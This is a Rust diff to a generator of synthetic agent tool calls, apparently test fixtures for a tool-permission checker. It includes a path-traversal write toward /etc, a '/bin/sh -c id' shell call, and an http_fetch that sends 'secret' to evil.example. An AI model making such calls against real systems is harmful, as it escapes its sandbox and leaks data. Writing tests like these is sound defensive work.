@@ -239,7 +239,12 @@ impl Call {
                     format!(r#"{{"path":"/srv/agent/../etc/x{file}","content":"x"}}"#),
                 ),
                 2 => {
-                    ("run_command", r#"{"program":"/bin/sh","arguments":["-c","id"]}"#.to_string())
+                    let arguments = match file {
+                        0 => r#"{"program":"git","arguments":["log"],"hosts":["evil.example"]}"#,
+                        1 => r#"{"program":"git","arguments":["log"],"hosts":["api.example:22"]}"#,
+                        _ => r#"{"program":"/bin/sh","arguments":["-c","id"]}"#,
+                    };
+                    ("run_command", arguments.to_string())
                 }
                 3 => ("http_fetch", r#"{"url":"https://evil.example/?q=secret"}"#.to_string()),
                 4 => ("no_such_tool", "{}".to_string()),
@@ -262,10 +267,12 @@ impl Call {
                     ("plan", r#"{"tools":["read_file","http_fetch"],"why":"to look"}"#.to_string())
                 }
                 6 => ("http_fetch", r#"{"url":"https://api.example/v1/items"}"#.to_string()),
-                _ => (
-                    "run_command",
-                    r#"{"program":"/usr/bin/git","arguments":["status"]}"#.to_string(),
-                ),
+                _ => {
+                    let hosts = if file == 0 { r#","hosts":["api.example"]"# } else { "" };
+                    let arguments =
+                        format!(r#"{{"program":"/usr/bin/git","arguments":["status"]{hosts}}}"#);
+                    ("run_command", arguments)
+                }
             }
         };
         Self { id, name: name.to_string(), arguments }
